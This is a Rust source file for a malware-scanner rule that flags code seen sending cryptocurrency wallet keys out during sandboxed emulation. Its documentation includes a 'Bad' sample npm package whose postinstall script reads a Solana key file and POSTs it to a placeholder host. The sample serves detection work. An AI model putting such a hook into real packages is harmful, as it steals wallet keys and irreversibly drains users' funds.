//! # A wallet is seen leaving
//!
//! Run in a fake world, the code sent a wallet's key, seed phrase or vault.
//!
//! ## Why it matters
//!
//! Whoever has the key has the money, and no bank can take a transfer back. The Lazarus packages of March 2025 looked for
//! Solana and Exodus wallets.
//!
//! ## Known benign uses
//!
//! Wallet software signs with a key and keeps it.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
//! == setup.js
//! const fs = require("fs"), os = require("os");
//! const file = os.homedir() + "/.config/solana/id.json";
//! if (fs.existsSync(file)) require("https").request("https://collector.invalid/w", { method: "POST" }).end(fs.readFileSync(file)); //~ here
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const fs = require("fs"), os = require("os");
//! exports.load = () => JSON.parse(fs.readFileSync(os.homedir() + "/.config/solana/id.json", "utf8"));
//! ```
//!
//! ## References
//!
//! - Lazarus packages of March 2025

use crate::prelude::*;

/// A wallet is seen leaving.
pub struct WalletSeenLeaving;

impl Rule for WalletSeenLeaving {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "wallet-seen-leaving",
            title: "A wallet is seen leaving",
            tier: Tier::Emulation,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1005",
            covers: &["collect-wallet-files", "collect-wallet-extensions"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let is_theirs = |class: SecretClass| matches!(class, SecretClass::Wallet);
        facts.thefts(is_theirs).for_each(|proof| found.seen(proof));
    }
}
